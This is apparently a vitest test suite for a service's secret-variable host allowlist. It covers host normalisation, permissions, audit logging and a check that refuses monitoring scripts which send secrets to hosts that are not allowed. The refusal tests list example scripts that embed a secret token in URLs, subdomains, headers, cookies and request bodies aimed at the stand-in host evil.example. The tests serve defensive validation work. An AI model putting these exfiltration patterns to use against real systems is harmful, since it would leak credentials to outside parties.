// biome-ignore-all lint/suspicious/noTemplateCurlyInString: braces of the language
import { randomUUID } from 'node:crypto'
import { beforeAll, describe, expect, test } from 'vitest'
import type { Scope } from '#server/schemas/scopes.ts'
import type { Service } from '#server/schemas/services.ts'
import type { Variable } from '#server/schemas/variables.ts'
import { createHostIndex, firstSecret } from '#server/scripts/allowed-hosts.ts'
import { failureOf, testApi } from '#test/support/api/api.ts'
import { refusal } from '#test/support/api/denied.ts'
import { type Key, type MemberOptions, type Organization, type ProjectRow, unique } from '#test/support/factories.ts'
import { auditOf } from '#test/support/side-effects.ts'

// The hosts that a secret may be sent to: who sets them, which scripts break them, and which scripts read a variable.

const api = testApi({ settings: { TRUSTED_DOMAIN_MODE: 'true' } })
let organization: Organization
let owner: Key
let project: ProjectRow
let ids: Record<Scope, string>

beforeAll(async () => {
  organization = await api.create.organization()
  owner = await api.create.key(organization.owner)
  const workspace = await api.create.workspace(organization)
  project = await api.create.project(workspace)
  const service = await api.create.service(project)
  ids = { organization: organization.id, workspace: workspace.id, project: project.id, service: service.id }
})

function pathOf(scope: Scope): string {
  return scope === 'organization' ? '/variables' : `/${scope}s/${ids[scope]}/variables`
}

async function createSecret(allowedHosts?: string[], given: { scope?: Scope; key?: string } = {}): Promise<Variable> {
  const { scope = 'project', key = `k${randomUUID().slice(0, 8)}` } = given
  const body = { key, value: 'hidden-value', type: 'secret', ...(allowedHosts && { allowedHosts }) }
  const answer = await api.call<Variable>(owner, 'POST', pathOf(scope), { body })
  expect(answer.status, JSON.stringify(answer.body)).toBe(200)
  return answer.body
}

async function callerOf(given: MemberOptions) {
  return api.caller(await api.create.member(organization, given))
}

describe('allowedHosts', () => {
  test('are kept in one form each, at every scope, and told by the list, the hierarchy and the audit log', async () => {
    const hosts = ['API.Example.com', '*.bücher.example:8443', '[2606:4700::1]', '0x7f.1:80', 'api.example.com.']
    const kept = ['api.example.com', '*.xn--bcher-kva.example:8443', '[2606:4700::1]', '127.0.0.1:80']
    for (const scope of ['organization', 'workspace', 'project', 'service'] as const) {
      const made = await createSecret(hosts, { scope })
      expect(made.allowedHosts).toEqual(kept)
      const { body } = await api.call<{ items: Variable[] }>(owner, 'GET', pathOf(scope))
      expect(body.items.find((item) => item.id === made.id)?.allowedHosts).toEqual(kept)
      expect((await auditOf(api.db, made.id))[0]?.details).toMatchObject({ type: 'secret', allowedHosts: kept })
    }
    const { body } = await api.call<{ scopes: { variables: Variable[] }[] }>(
      owner,
      'GET',
      `/services/${ids.service}/variables/hierarchy`,
    )
    expect(body.scopes.map(({ variables }) => variables.some((one) => one.allowedHosts.length === 4))).toEqual(
      Array(4).fill(true),
    )
  })

  test('do not change with the value; the audit entry of a change lists them before and after', async () => {
    const made = await createSecret(['api.example.com'])
    const path = `${pathOf('project')}/${made.id}`
    const valued = await api.call<Variable>(owner, 'PATCH', path, { body: { value: 'another value' } })
    expect(valued.body.allowedHosts).toEqual(['api.example.com'])
    const wider = await api.call<Variable>(owner, 'PATCH', path, { body: { value: 'x', allowedHosts: [] } })
    expect(wider.body.allowedHosts).toEqual([])
    const caller = await api.caller(organization.owner)
    const place = { scope: 'project' as const, resourceId: ids.project, id: made.id }
    const narrowed = await caller.variables.setAllowedHosts({ ...place, allowedHosts: ['b.example.com'] })
    expect(narrowed).toMatchObject({ allowedHosts: ['b.example.com'], masked: true })
    const entries = (await auditOf(api.db, made.id)).map(({ details }) => details as Record<string, unknown>)
    expect(entries.map(({ allowedHosts }) => allowedHosts)).toEqual([
      ['api.example.com'],
      undefined,
      { from: ['api.example.com'], to: [] },
      { from: [], to: ['b.example.com'] },
    ])
    expect(JSON.stringify(entries)).not.toMatch(/hidden|another value/)
  })

  test('are refused for other types, when invalid, and when too many', async () => {
    const create = (body: object) =>
      api.call(owner, 'POST', pathOf('project'), {
        body: { key: unique('k').replace(/\W/g, '_'), value: 'x', ...body },
      })
    for (const type of ['variable', 'metric']) {
      expect(refusal(await create({ type, allowedHosts: ['a.example.com'] }))).toMatchObject({
        error: 'field_invalid',
        details: { field: 'allowedHosts' },
      })
      expect((await create({ type, allowedHosts: [] })).status).toBe(200)
    }
    const wrong = ['', '*', '*.', 'a b', 'https://a.example', 'a.example/x', 'u@a.example', 'a.example:0', 'a..b']
    const lists = [...wrong, 'a.example:70000', '*.10.0.0.1', 'x'.repeat(261), 7].map((host) => [host])
    for (const allowedHosts of [...lists, Array(21).fill('a.example'), 'a.example', null]) {
      const answer = refusal(await create({ type: 'secret', allowedHosts }))
      expect(answer, String(allowedHosts)).toMatchObject({ status: 400, error: 'invalid_request_body' })
      expect(String((answer.details as { field: string }).field)).toMatch(/^allowedHosts/)
    }
  })

  test('are set with write access to the variable, not with read access or with write access to a service below', async () => {
    const made = await createSecret(['api.example.com'])
    const set = { scope: 'project' as const, resourceId: ids.project, id: made.id, allowedHosts: [] }
    const beneath = await api.create.member(organization, { grants: [{ serviceId: ids.service, level: 2 }] })
    for (const caller of [
      await callerOf({ grants: [{ projectId: ids.project, level: 1 }] }),
      await api.caller(beneath),
    ]) {
      expect(await failureOf(caller.variables.setAllowedHosts(set))).toMatchObject({ code: 'not_found' })
    }
    const key = await api.create.key(beneath)
    const body = { value: 'x', allowedHosts: [] }
    expect((await api.call(key, 'PATCH', `${pathOf('project')}/${made.id}`, { body })).status).toBe(404)
    const writer = await callerOf({ grants: [{ projectId: ids.project, level: 2 }] })
    expect((await writer.variables.setAllowedHosts(set)).allowedHosts).toEqual([])
    const metric = await api.call<Variable>(owner, 'POST', pathOf('project'), {
      body: { key: 'm1', value: '1', type: 'metric' },
    })
    const wrong = writer.variables.setAllowedHosts({ ...set, id: metric.body.id, allowedHosts: ['a.example'] })
    expect(await failureOf(wrong)).toMatchObject({ code: 'field_invalid', details: { field: 'allowedHosts' } })
  })
})

describe('a script that sends a secret elsewhere', () => {
  const save = async (script: string) => {
    const service = await api.create.service(project)
    return api.call<Service>(owner, 'PATCH', `/services/${service.id}/script`, { body: { script, version: 1 } })
  }
  const problemsOf = (body: unknown) =>
    ((body as { details?: { errors?: Record<string, unknown>[] } }).details?.errors ?? []).map(
      ({ code, field, callIndex, line }) => [code, field, callIndex, line],
    )

  beforeAll(async () => {
    await createSecret(['api.example.com', '*.example.net:8443'], { key: 'token' })
    await createSecret([], { key: 'open' })
    const base = { key: 'base', value: 'https://evil.example', type: 'variable' }
    await api.call(owner, 'POST', pathOf('project'), { body: base })
  })

  test.each([
    ['in the URL', 'get("https://evil.example/$p.token").wait(0)', 'url'],
    ['in the name of a host', 'get("https://${$p.token}.evil.example/").wait(0)', 'url'],
    ['in a header', 'get("https://evil.example/", { headers: { "X-A": "Bearer $p.token" } }).wait(0)', 'headers.X-A'],
    ['in a cookie', 'get("https://evil.example/", { cookies: { a: $p.token } }).wait(0)', 'cookies'],
    ['in a body', 'post("https://evil.example/", { body: "a=$p.token" }).wait(0)', 'body'],
    ['in JSON', 'post("https://evil.example/", { body: json({ a: { b: [1, $p.token] } }) }).wait(0)', 'body'],
    ['in a form', 'post("https://evil.example/", { body: form({ a: "${$p.token}" }) }).wait(0)', 'body'],
    ['to a host in a variable', 'get("$p.base/$p.token").wait(0)', 'url'],
    ['on another port', 'get("https://a.example.net/$p.token").wait(0)', 'url'],
    ['calculated with', 'get("https://evil.example/", { headers: { a: $p.token * 2 } }).wait(0)', 'headers.a'],
    ['whole, with its scope', 'post("https://evil.example/", { body: json({ a: $p }) }).wait(0)', 'body'],
  ])('is refused at the save and at enabling: %s', async (_, script, field) => {
    const saved = await save(script)
    expect(refusal(saved)).toMatchObject({ status: 400, error: 'field_invalid', details: { field: 'script' } })
    expect(problemsOf(saved.body)).toContainEqual(['SECRET_HOST_NOT_ALLOWED', field, 0, 1])
    expect(JSON.stringify(saved.body)).not.toContain('hidden')
    const stored = await api.create.service(project, { script, version: 2 })
    const body = { isActive: true }
    expect(refusal(await api.call(owner, 'PATCH', `/services/${stored.id}/toggle`, { body }))).toMatchObject({
      error: 'field_invalid',
      details: { field: 'script' },
    })
  })

  test('is refused when a value passes from one call to the next', async () => {
    const script = 'get("https://api.example.com/$p.token").store({ "$$copy": $p.token, kept: $p.token })'
    for (const next of ['$$copy', '"x ${$$copy}"', '$s.kept', 'prev.runVars.copy']) {
      const saved = await save(`${script}\nget("https://evil.example/", { headers: { a: ${next} } }).wait(0)`)
      expect(problemsOf(saved.body), next).toEqual([['SECRET_HOST_NOT_ALLOWED', 'headers.a', 1, 2]])
    }
  })

  test('is refused however long the chain of stored values is, and whatever the case of a header', async () => {
    const chain = Array.from({ length: 20 }, (_, i) => `k${20 - i}: $s.k${19 - i}`).join(', ')
    for (const [headers, field] of [
      ['{ a: $s.k20 }', 'headers.a'],
      ['{ a: $p.token, A: "x" }', 'headers.a'],
    ]) {
      const script = `get("https://api.example.com/").store({ ${chain}, k0: $p.token })`
      const saved = await save(`${script}\nget("https://evil.example/", { headers: ${headers} }).wait(0)`)
      expect(problemsOf(saved.body), headers).toContainEqual(['SECRET_HOST_NOT_ALLOWED', field, 1, 2])
    }
  })

  test('is found among hundreds of secrets', () => {
    const secrets = Array.from({ length: 400 }, (_, i) => ({ allowedHosts: i % 3 === 0 ? [] : [`h${i}.example.com`] }))
    const excludedAt = createHostIndex(secrets)
    for (const [index, secret] of secrets.entries()) {
      expect(firstSecret((1n << BigInt(index)) | (1n << 400n), secrets)).toBe(secret)
      const mask = excludedAt(new URL(`https://h${index}.example.com/`))
      expect(mask.toString(2).replaceAll('0', '').length).toBe(index % 3 === 0 ? 266 : 265)
    }
    expect(firstSecret(0n, secrets)).toBeNull()
  })

  test('says which hosts there are, and not a host that a secret makes up', async () => {
    const saved = await save('get("https://evil.example/$p.token").wait(0)')
    expect(refusal(saved).details).toMatchObject({
      reason: 'the secret $p.token may be sent to api.example.com, *.example.net:8443 only, not to evil.example',
    })
    const hidden = await save('get("https://${$p.token}.evil.example/").wait(0)')
    expect(JSON.stringify(hidden.body)).toContain('not to the host of this call')
  })

  test('is saved where the hosts allow it, where only a run knows the host, and for a secret without hosts', async () => {
    for (const script of [
      'get("https://api.example.com/$p.token").wait(0)',
      'get("https://a.b.example.net:8443/", { headers: { a: $p.token } }).wait(0)',
      'get("https://${$$where}/$p.token").wait(0)',
      'get("https://evil.example/$p.open").wait(0)',
      'get("https://evil.example/").expect(body: "$p.token")',
      '// $p.token\nget("https://evil.example/$$p.token").wait(0)',
    ]) {
      const { status, body } = await save(script)
      expect({ status, body }, script).toMatchObject({ status: 200 })
    }
  })
})

describe('Host headers of a script', () => {
  test.each([
    ['{ Host: "status.example.com", hOST: "status.example.com" }', 'HOST_HEADER_TWICE', 'headers.hOST'],
    ['{ Host: "other.example.com" }', 'HOST_HEADER_DIFFERS', 'headers.Host'],
    ['{ host: "status.example.com:8443" }', 'HOST_HEADER_DIFFERS', 'headers.host'],
    ['{ Host: "${$s.name}.example.com" }', 'HOST_HEADER_DIFFERS', 'headers.Host'],
  ])('%s is refused', async (headers, code, field) => {
    const service = await api.create.service(project)
    const script = `get("https://status.example.com/", { headers: ${headers} }).wait(0)`
    const answer = await api.call(owner, 'PATCH', `/services/${service.id}/script`, { body: { script, version: 1 } })
    expect(refusal(answer)).toMatchObject({ error: 'field_invalid', details: { errors: [{ code, field, line: 1 }] } })
  })

  test.each(['Status.Example.com', 'status.example.com:443', '$$host'])('%s is accepted', async (host) => {
    const service = await api.create.service(project)
    const script = `get("https://status.example.com/", { headers: { Host: "${host}" } }).wait(0)`
    const answer = await api.call(owner, 'PATCH', `/services/${service.id}/script`, { body: { script, version: 1 } })
    expect(answer.status, JSON.stringify(answer.body)).toBe(200)
  })
})

describe('variables.usage', () => {
  test('lists the services in the scope that name the variable and that the member can see', async () => {
    const { id, key } = await createSecret([], { key: `used_${randomUUID().slice(0, 8)}` })
    const scripts: Record<string, string> = {
      plain: `get("https://a.example/$p.${key}")`,
      braces: `get("https://a.example/\${$p.${key}}x")`,
      expression: `get("https://a.example/", { headers: { a: $p.${key} } })`,
      neighbours: `get("https://a.example/$p.x$p.${key}$p.y")`,
      'of the run': `get("https://a.example/$$p.${key}")`,
      'of another scope': `get("https://a.example/$s.${key}")`,
      'with a longer name': `get("https://a.example/$p.${key}_2")`,
    }
    const made: Record<string, string> = {}
    for (const [name, call] of Object.entries(scripts)) {
      made[name] = (await api.create.service(project, { name: `${key} ${name}`, script: `${call}.wait(0)` })).id
    }
    const elsewhere = await api.create.project(await api.create.workspace(organization))
    await api.create.service(elsewhere, { script: scripts.plain })
    const ask = { scope: 'project' as const, resourceId: ids.project, id }
    const whole = await (await api.caller(organization.owner)).variables.usage(ask)
    expect(whole.services.map((service) => service.name.slice(key.length + 1))).toEqual([
      'braces',
      'expression',
      'neighbours',
      'plain',
    ])
    expect(whole).toMatchObject({ isTruncated: false })
    expect(whole.services[0]).toMatchObject({ projectName: project.name, isActive: false })
    const stranger = await callerOf({ grants: [{ serviceId: made.plain as string, level: 2 }] })
    expect(await failureOf(stranger.variables.usage(ask))).toMatchObject({ code: 'not_found' })
  })

  test("stops at fifty, and an organization's settings alone show no services", async () => {
    const { id, key } = await createSecret([], { scope: 'organization' })
    const script = `get("https://a.example/$o.${key}").wait(0)`
    for (let i = 0; i < 51; i++) await api.create.service(project, { script })
    const ask = { scope: 'organization' as const, resourceId: ids.organization, id }
    const whole = await (await api.caller(organization.owner)).variables.usage(ask)
    expect([whole.services.length, whole.isTruncated]).toEqual([50, true])
    const settings = await callerOf({ sections: { settings: 'read' } })
    expect(await settings.variables.usage(ask)).toEqual({ services: [], isTruncated: false })
  })
})
